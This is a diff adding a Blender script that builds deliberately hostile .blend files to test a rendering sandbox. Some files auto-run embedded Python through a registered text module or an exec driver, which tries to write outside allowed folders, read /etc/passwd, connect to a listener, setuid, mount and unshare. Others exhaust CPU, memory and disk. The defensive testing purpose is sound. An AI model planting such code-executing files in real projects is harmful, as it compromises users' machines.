@@ -1,0 +1,148 @@
+"""Makes files that mean harm, for the tests of the sandbox.
+
+    blender --background --factory-startup --python hostile.py -- FOLDER TARGET HOST PORT
+
+TARGET is a folder that they try to reach, HOST and PORT a listener that they try
+to call. What their code managed, if it ever runs, it prints as one line of JSON
+behind "hostile: ". One Blender makes them all.
+"""
+
+import os
+import sys
+
+import bpy
+
+FOLDER, TARGET, HOST, PORT = sys.argv[sys.argv.index("--") + 1:]
+
+# Every deed is tried; a deed that is refused says by what.
+CODE = """
+import bpy, ctypes, json, os, socket, subprocess
+done = {}
+def attempt(name, deed):
+    try:
+        done[name] = "done: %%s" %% (deed(),)
+    except BaseException as error:
+        done[name] = "refused: %%r" %% (error,)
+def put(path):
+    with open(path, "w") as file:
+        file.write("hostile")
+def get(path):
+    with open(path) as file:
+        return file.read(20)
+def call():
+    socket.create_connection((%(host)r, %(port)s), 5).close()
+def others():
+    mine = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) > 30]
+    assert mine, "no process in sight"
+    os.kill(mine[0], 0)
+def mount():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
+        raise OSError(ctypes.get_errno(), "mount")
+def unshare():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.unshare(0x10000000) != 0:
+        raise OSError(ctypes.get_errno(), "unshare")
+attempt("write to the target", lambda: put(%(target)r + "/hostile"))
+attempt("write to /", lambda: put("/hostile"))
+attempt("write to /usr", lambda: put("/usr/hostile"))
+attempt("write beside the file", lambda: put(os.path.dirname(bpy.data.filepath) + "/hostile"))
+attempt("read the target", lambda: get(%(target)r + "/secret"))
+attempt("read the users", lambda: get("/etc/passwd"))
+attempt("read the roots", lambda: os.listdir("/root") or 1 / 0)
+attempt("call out", call)
+attempt("see others", others)
+attempt("become root", lambda: os.setuid(0))
+attempt("mount", mount)
+attempt("make a user namespace", unshare)
+attempt("raise a limit", lambda: __import__("resource").setrlimit(7, (1 << 20, 1 << 20)))
+print("hostile: " + json.dumps(done), flush=True)
+""" % {"target": TARGET, "host": HOST, "port": PORT}
+
+
+def base():
+    bpy.ops.wm.read_factory_settings(use_empty=True)
+    scene = bpy.context.scene
+    scene.render.engine = "CYCLES"
+    scene.cycles.samples = 1
+    scene.cycles.use_denoising = False
+    scene.render.resolution_x, scene.render.resolution_y = 64, 48
+    scene.render.resolution_percentage = 100
+    bpy.ops.mesh.primitive_cube_add(location=(0, 0, 1))
+    bpy.ops.object.light_add(type="SUN", location=(3, -3, 6), rotation=(0.6, 0.3, 0))
+    bpy.ops.object.camera_add(location=(6, -6, 5), rotation=(1.0, 0, 0.785))
+    scene.camera = bpy.context.object
+    return scene
+
+
+def cube():
+    return bpy.data.objects["Cube"]
+
+
+def save(name):
+    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(FOLDER, name + ".blend"), compress=True, relative_remap=False)
+
+
+def driven(expression):
+    driver = cube().driver_add("location", 2).driver
+    driver.type = "SCRIPTED"
+    driver.expression = expression
+
+
+# A script that registers itself when the file is opened.
+base()
+text = bpy.data.texts.new("registers.py")
+text.from_string(CODE)
+text.use_module = True
+save("register_script")
+
+# A driver whose expression is a program.
+base()
+bpy.data.texts.new("code.py").from_string(CODE)
+driven("exec(bpy.data.texts['code.py'].as_string()) or 0.0")
+save("python_driver")
+
+# A driver that never comes to an end.
+base()
+driven("sum(1 for _ in iter(int, 1))")
+save("endless_driver")
+
+# Two drivers that wait for each other, without a line of Python.
+base()
+for index, other in ((0, "location.y"), (1, "location.x")):
+    driver = cube().driver_add("location", index).driver
+    driver.type = "SUM"
+    target = driver.variables.new().targets[0]
+    target.id, target.data_path = cube(), other
+save("driver_loop")
+
+# Files written to the root, and to the target.
+scene = base()
+scene.use_nodes = True
+nodes, links = scene.node_tree.nodes, scene.node_tree.links
+for folder in ("/", TARGET, "//"):
+    node = nodes.new("CompositorNodeOutputFile")
+    node.base_path = folder
+    node.file_slots[0].path = "hostile"
+    links.new(nodes["Render Layers"].outputs["Image"], node.inputs[0])
+scene.render.filepath = os.path.join(TARGET, "hostile")
+save("file_output")
+
+# Two subdivisions on each other: some 10^11 faces.
+base()
+for _ in range(2):
+    modifier = cube().modifiers.new("more", "SUBSURF")
+    modifier.subdivision_type = "SIMPLE"
+    modifier.levels, modifier.render_levels = 0, 9
+save("subdivision")
+
+# A picture of 4 gigapixels, 64 GiB as Cycles holds it.
+scene = base()
+scene.render.resolution_x = scene.render.resolution_y = 65536
+save("huge_output")
+
+# A picture that is larger on disk than the tests' limit lets it be.
+scene = base()
+scene.render.resolution_x = scene.render.resolution_y = 1024
+scene.render.image_settings.file_format = "BMP"
+save("large_file")
